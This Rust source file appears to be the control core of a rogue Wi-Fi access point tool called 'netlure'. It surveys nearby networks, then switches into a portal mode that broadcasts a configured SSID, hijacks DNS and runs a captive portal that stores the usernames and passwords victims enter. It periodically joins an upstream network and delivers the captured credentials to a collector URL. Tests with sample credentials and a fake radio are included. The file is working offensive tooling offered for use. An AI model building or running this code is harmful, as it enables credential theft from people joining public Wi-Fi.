use std::sync::mpsc::{Receiver, RecvTimeoutError, Sender};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};

use netlure_capture::{CredentialStore, FlushTrigger};
use netlure_dns::NameHijacker;
use netlure_portal::{PortalServer, TriggerHook};

use crate::config::Config;
use crate::console;
use crate::radio::RadioControl;
use crate::survey::{
    render_network_details, render_security_report, render_survey_table, SecuritySummary,
    SurveyedNetwork,
};
use crate::sync::{SyncAgent, SyncConfig};

const TICK: Duration = Duration::from_millis(250);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OperationMode {
    Scanning,
    Portal,
}

/// Operator commands as the console parses them.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ConsoleCommand {
    ScanningMode,
    PortalMode,
    ShowNetworks,
    SecuritySummary,
    ShowCaptured,
    SyncNow,
    ShowMenu,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ControlEvent {
    Command(ConsoleCommand),
    /// A portal insertion demanded a flush.
    Capture(FlushTrigger),
    Shutdown,
}

/// Two-state owner of every service handle. All mode flips and all
/// delivery passes happen on the thread running [`ModeController::run`];
/// other threads only send events.
pub struct ModeController {
    config: Config,
    store: Arc<CredentialStore>,
    radio: Arc<dyn RadioControl>,
    agent: SyncAgent,
    events: Receiver<ControlEvent>,
    /// Cloned into the portal's trigger hook on every portal start.
    hook_tx: Sender<ControlEvent>,
    mode: OperationMode,
    portal: Option<PortalServer>,
    hijacker: Option<NameHijacker>,
    survey: Vec<SurveyedNetwork>,
    last_survey: Instant,
    last_auto_sync: Instant,
    epoch: Instant,
}

impl ModeController {
    pub fn new(
        config: Config,
        store: Arc<CredentialStore>,
        radio: Arc<dyn RadioControl>,
        events: Receiver<ControlEvent>,
        hook_tx: Sender<ControlEvent>,
        epoch: Instant,
    ) -> Result<Self> {
        let agent = SyncAgent::new(
            SyncConfig::from(&config),
            Arc::clone(&store),
            Arc::clone(&radio),
        )?;

        Ok(Self {
            config,
            store,
            radio,
            agent,
            events,
            hook_tx,
            mode: OperationMode::Scanning,
            portal: None,
            hijacker: None,
            survey: Vec::new(),
            last_survey: Instant::now(),
            last_auto_sync: Instant::now(),
            epoch,
        })
    }

    pub fn mode(&self) -> OperationMode {
        self.mode
    }

    /// Control loop. Returns after a shutdown event, with every service
    /// stopped and the radio out of access-point role.
    pub fn run(mut self) -> Result<()> {
        if let Err(err) = self.enter_scanning() {
            tracing::warn!("Initial scanning setup failed: {err:#}");
        }

        loop {
            match self.events.recv_timeout(TICK) {
                Ok(ControlEvent::Shutdown) => break,
                Ok(ControlEvent::Command(command)) => self.handle_command(command),
                Ok(ControlEvent::Capture(trigger)) => self.handle_capture_trigger(trigger),
                Err(RecvTimeoutError::Timeout) => {}
                Err(RecvTimeoutError::Disconnected) => break,
            }
            self.tick();
        }

        self.teardown();
        Ok(())
    }

    /// Stop both services, put the radio into access-point role and
    /// bring them back up against the portal address. The access point
    /// comes first; the portal listener needs the address assigned.
    fn enter_portal(&mut self) -> Result<OperationMode> {
        self.halt_services();

        self.radio
            .start_access_point(
                &self.config.portal_ssid,
                self.config.portal_passphrase.as_deref(),
            )
            .context("starting access point")?;

        let hijacker = NameHijacker::start(self.config.hijack_config())
            .context("starting name hijacker")?;
        let portal = PortalServer::start(
            &self.config.portal_config(),
            Arc::clone(&self.store),
            self.trigger_hook(),
            self.epoch,
        )
        .context("starting portal server")?;

        self.hijacker = Some(hijacker);
        self.portal = Some(portal);
        self.mode = OperationMode::Portal;
        tracing::info!(
            "Portal mode active: '{}' answering on {}",
            self.config.portal_ssid,
            self.config.portal_addr
        );
        Ok(self.mode)
    }

    /// Stop both services, return the radio to station duty and run an
    /// immediate survey so the operator sees fresh results.
    fn enter_scanning(&mut self) -> Result<OperationMode> {
        self.halt_services();

        self.radio
            .ensure_station_mode()
            .context("returning radio to station mode")?;

        self.mode = OperationMode::Scanning;
        tracing::info!("Scanning mode active");
        self.refresh_survey();
        Ok(self.mode)
    }

    fn handle_command(&mut self, command: ConsoleCommand) {
        match command {
            ConsoleCommand::ScanningMode => {
                if let Err(err) = self.enter_scanning() {
                    tracing::warn!("Entering scanning mode failed: {err:#}");
                }
            }
            ConsoleCommand::PortalMode => {
                if let Err(err) = self.enter_portal() {
                    tracing::warn!("Entering portal mode failed: {err:#}");
                    if let Err(err) = self.enter_scanning() {
                        tracing::warn!("Scanning fallback failed: {err:#}");
                    }
                }
            }
            ConsoleCommand::ShowNetworks => {
                println!("{}", render_network_details(&self.survey));
            }
            ConsoleCommand::SecuritySummary => {
                let summary = SecuritySummary::from_networks(&self.survey);
                println!("{}", render_security_report(&summary));
            }
            ConsoleCommand::ShowCaptured => {
                println!("{}", console::format_records(&self.store.snapshot()));
            }
            ConsoleCommand::SyncNow => {
                tracing::info!("Manual delivery pass requested");
                self.run_flush_pass();
            }
            ConsoleCommand::ShowMenu => {
                println!("{}", console::MENU);
            }
        }
    }

    fn handle_capture_trigger(&mut self, trigger: FlushTrigger) {
        match trigger {
            FlushTrigger::AtCapacity => {
                tracing::warn!("Store reached capacity; starting delivery pass");
            }
            FlushTrigger::Periodic => {
                tracing::info!("Store crossed a delivery stride; starting delivery pass");
            }
        }
        self.run_flush_pass();
    }

    fn tick(&mut self) {
        if self.last_auto_sync.elapsed() >= self.config.auto_sync_interval
            && !self.store.is_empty()
        {
            tracing::info!("Automatic delivery check: records pending");
            self.run_flush_pass();
        }

        if self.mode == OperationMode::Scanning
            && self.last_survey.elapsed() >= self.config.survey_interval
        {
            self.refresh_survey();
        }
    }

    /// The single delivery procedure every trigger funnels into. The
    /// portal is taken down for the duration; capture resumes when the
    /// previous mode is restored, whatever the pass did.
    fn run_flush_pass(&mut self) {
        let was_portal = self.mode == OperationMode::Portal;
        if was_portal {
            self.halt_services();
            if let Err(err) = self.radio.stop_access_point() {
                tracing::warn!("Stopping access point before delivery failed: {err:#}");
            }
        }

        let report = self.agent.sync_all();
        tracing::info!(
            "Delivery pass finished: join {:?}, {}/{} delivered",
            report.join,
            report.delivered,
            report.attempted
        );
        self.last_auto_sync = Instant::now();

        if was_portal {
            if let Err(err) = self.enter_portal() {
                tracing::warn!(
                    "Could not restore portal mode after delivery: {err:#}; falling back to scanning"
                );
                if let Err(err) = self.enter_scanning() {
                    tracing::warn!("Scanning fallback failed: {err:#}");
                }
            }
        }
    }

    fn refresh_survey(&mut self) {
        match self.radio.survey() {
            Ok(networks) => {
                tracing::info!("Survey found {} networks", networks.len());
                println!("{}", render_survey_table(&networks));
                self.survey = networks;
            }
            Err(err) => tracing::warn!("Survey failed: {err:#}"),
        }
        self.last_survey = Instant::now();
    }

    fn halt_services(&mut self) {
        if let Some(portal) = self.portal.take() {
            portal.stop();
        }
        if let Some(mut hijacker) = self.hijacker.take() {
            hijacker.stop();
        }
    }

    fn teardown(&mut self) {
        self.halt_services();
        if let Err(err) = self.radio.stop_access_point() {
            tracing::warn!("Stopping access point on shutdown failed: {err:#}");
        }
        tracing::info!("Controller stopped");
    }

    fn trigger_hook(&self) -> TriggerHook {
        let tx = self.hook_tx.clone();
        Arc::new(move |trigger| {
            let _ = tx.send(ControlEvent::Capture(trigger));
        })
    }
}

#[cfg(test)]
mod tests {
    use std::net::Ipv4Addr;
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::mpsc;
    use std::time::Duration;

    use tempfile::TempDir;

    use netlure_capture::CapturedCredential;

    use super::*;
    use crate::survey::CipherSuite;

    struct FakeRadio {
        join_succeeds: bool,
        connected: AtomicBool,
        ap_active: AtomicBool,
        networks: Vec<SurveyedNetwork>,
    }

    impl FakeRadio {
        fn new(join_succeeds: bool) -> Self {
            Self {
                join_succeeds,
                connected: AtomicBool::new(false),
                ap_active: AtomicBool::new(false),
                networks: vec![SurveyedNetwork {
                    ssid: "CoffeeShop".to_string(),
                    bssid: "aa:bb:cc:dd:ee:ff".to_string(),
                    signal_dbm: -42,
                    channel: 6,
                    cipher: CipherSuite::Wpa2,
                }],
            }
        }
    }

    impl RadioControl for FakeRadio {
        fn start_access_point(&self, _ssid: &str, _passphrase: Option<&str>) -> Result<()> {
            self.ap_active.store(true, Ordering::SeqCst);
            Ok(())
        }

        fn stop_access_point(&self) -> Result<()> {
            self.ap_active.store(false, Ordering::SeqCst);
            Ok(())
        }

        fn ensure_station_mode(&self) -> Result<()> {
            self.ap_active.store(false, Ordering::SeqCst);
            Ok(())
        }

        fn request_join(&self, _ssid: &str, _psk: Option<&str>) -> Result<()> {
            if self.join_succeeds {
                self.connected.store(true, Ordering::SeqCst);
            }
            Ok(())
        }

        fn is_connected(&self) -> Result<bool> {
            Ok(self.connected.load(Ordering::SeqCst))
        }

        fn survey(&self) -> Result<Vec<SurveyedNetwork>> {
            Ok(self.networks.clone())
        }
    }

    fn test_config(tmp: &TempDir) -> Config {
        let mut config = Config::from_env();
        config.interface = "test0".to_string();
        config.portal_addr = Ipv4Addr::LOCALHOST;
        config.portal_port = 0;
        config.dns_port = 0;
        config.upstream_ssid = "Uplink".to_string();
        config.collector_url = "http://127.0.0.1:9/creds".to_string();
        config.state_dir = tmp.path().to_path_buf();
        config.join_attempts = 1;
        config.join_poll_interval = Duration::from_millis(1);
        config.record_pacing = Duration::from_millis(1);
        config.request_timeout = Duration::from_secs(1);
        config.bind_to_device = false;
        config
    }

    fn controller_with(radio: Arc<FakeRadio>, tmp: &TempDir) -> ModeController {
        let store = Arc::new(CredentialStore::with_default_capacity());
        let (tx, rx) = mpsc::channel();
        ModeController::new(
            test_config(tmp),
            store,
            radio,
            rx,
            tx,
            Instant::now(),
        )
        .expect("controller")
    }

    #[test]
    fn portal_mode_starts_both_services() {
        let tmp = TempDir::new().expect("tempdir");
        let radio = Arc::new(FakeRadio::new(true));
        let mut controller = controller_with(Arc::clone(&radio), &tmp);

        controller.enter_portal().expect("enter portal");
        assert_eq!(controller.mode(), OperationMode::Portal);
        assert!(controller.portal.is_some());
        assert!(controller.hijacker.is_some());
        assert!(radio.ap_active.load(Ordering::SeqCst));

        controller.enter_scanning().expect("enter scanning");
        assert_eq!(controller.mode(), OperationMode::Scanning);
        assert!(controller.portal.is_none());
        assert!(controller.hijacker.is_none());
        assert!(!radio.ap_active.load(Ordering::SeqCst));
        assert_eq!(controller.survey.len(), 1);
    }

    #[test]
    fn failed_delivery_keeps_records_and_restores_portal_mode() {
        let tmp = TempDir::new().expect("tempdir");
        let radio = Arc::new(FakeRadio::new(true));
        let mut controller = controller_with(Arc::clone(&radio), &tmp);

        controller.store.insert(CapturedCredential::new(
            "alice", "pw1", "10.42.0.23", 100,
        ));
        controller.store.insert(CapturedCredential::new(
            "bob", "pw2", "10.42.0.24", 200,
        ));

        controller.enter_portal().expect("enter portal");
        controller.run_flush_pass();

        // Collector on port 9 refuses connections, so nothing deliverable.
        assert_eq!(controller.store.len(), 2);
        assert_eq!(controller.mode(), OperationMode::Portal);
        assert!(controller.portal.is_some());
        assert!(radio.ap_active.load(Ordering::SeqCst));
    }

    #[test]
    fn failed_join_leaves_store_untouched() {
        let tmp = TempDir::new().expect("tempdir");
        let radio = Arc::new(FakeRadio::new(false));
        let mut controller = controller_with(Arc::clone(&radio), &tmp);

        controller
            .store
            .insert(CapturedCredential::new("alice", "pw", "10.42.0.23", 100));

        controller.run_flush_pass();
        assert_eq!(controller.store.len(), 1);
        assert_eq!(controller.mode(), OperationMode::Scanning);
    }
}
